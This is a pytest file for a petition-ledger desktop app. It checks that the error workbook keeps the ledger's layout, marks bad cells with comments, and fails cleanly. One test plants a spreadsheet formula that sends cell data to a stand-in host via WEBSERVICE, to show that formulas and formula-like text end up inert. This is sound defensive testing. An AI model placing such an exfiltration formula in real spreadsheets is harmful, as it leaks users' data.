"""The error workbook: the ledger's own layout, marked, harmless, and importable again."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from xinfang_desktop.domain.errors import EnvironmentProblem
from xinfang_desktop.ledgers.preview import LedgerReading, read_ledger
from xinfang_desktop.ledgers.writing import LIST_SHEET, write_error_workbook

from .maker import write_csv, write_ods, write_xlsx

GRID = [
    ["青石镇来访台账", "", "", "", ""],
    ["序号", "来访日期", "姓名", "身份证号", "反映问题"],
    [1, "2025-1-2", "周敏", "440524188001010015", "=HYPERLINK(1)"],
    [2, "2月30日", "何建平", "440524188001010014", "+水渠"],
]


def read(path: Path) -> LedgerReading:
    return read_ledger(path, known_category=lambda _: "01", today=date(2026, 3, 1))


@pytest.mark.parametrize("kind", ["xlsx", "ods", "csv"])
def test_cells_are_marked_in_the_ledgers_own_layout(tmp_path: Path, kind: str) -> None:
    path = tmp_path / f"表.{kind}"
    if kind == "csv":
        write_csv(path, GRID, "gb18030")
    else:
        (write_xlsx if kind == "xlsx" else write_ods)(path, {"来访": (GRID, [(0, 0, 0, 4)])})
    out = tmp_path / "错误.xlsx"
    assert write_error_workbook(read(path), out) == 2
    book = load_workbook(out)
    sheet = book.worksheets[0]
    assert book.sheetnames[-1] == LIST_SHEET
    assert sheet["C3"].value == "周敏"
    assert sheet["D3"].comment is not None and "校验码" in sheet["D3"].comment.text
    assert sheet["B4"].comment is not None and "2 月没有 30 日" in sheet["B4"].comment.text
    assert sheet["D3"].fill.fgColor.rgb.endswith("FFF2CC")
    assert sheet["D4"].comment is None
    assert sheet["D4"].data_type == "s" and sheet["D4"].number_format == "@"
    assert [p.name for p in tmp_path.iterdir() if p.suffix == ".tmp"] == []
    assert [r.key for r in read(out).rows] == [r.key for r in read(path).rows]


def test_formulas_and_texts_like_formulas_do_nothing(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in GRID[1:]:
        sheet.append(row)
    sheet["C2"] = '=WEBSERVICE("http://例.invalid/"&A1)'
    sheet["E3"].data_type = "s"
    path, out = tmp_path / "表.xlsx", tmp_path / "错误.xlsx"
    book.save(path)
    write_error_workbook(read(path), out)
    cells = [c for s in load_workbook(out).worksheets for row in s.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_csv_texts_like_formulas_stay_texts(tmp_path: Path) -> None:
    write_csv(tmp_path / "表.csv", GRID, "utf-8")
    write_error_workbook(read(tmp_path / "表.csv"), tmp_path / "错误.xlsx")
    cell = load_workbook(tmp_path / "错误.xlsx").worksheets[0]["E3"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=HYPERLINK(1)", "s", True)


def test_a_place_that_cannot_be_written_leaves_nothing(tmp_path: Path) -> None:
    write_csv(tmp_path / "表.csv", GRID, "utf-8")
    reading = read(tmp_path / "表.csv")
    with pytest.raises(EnvironmentProblem):
        write_error_workbook(reading, tmp_path / "没有" / "错误.xlsx")
    (tmp_path / "占用.xlsx").mkdir()
    with pytest.raises(EnvironmentProblem):
        write_error_workbook(reading, tmp_path / "占用.xlsx")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["占用.xlsx", "表.csv"]
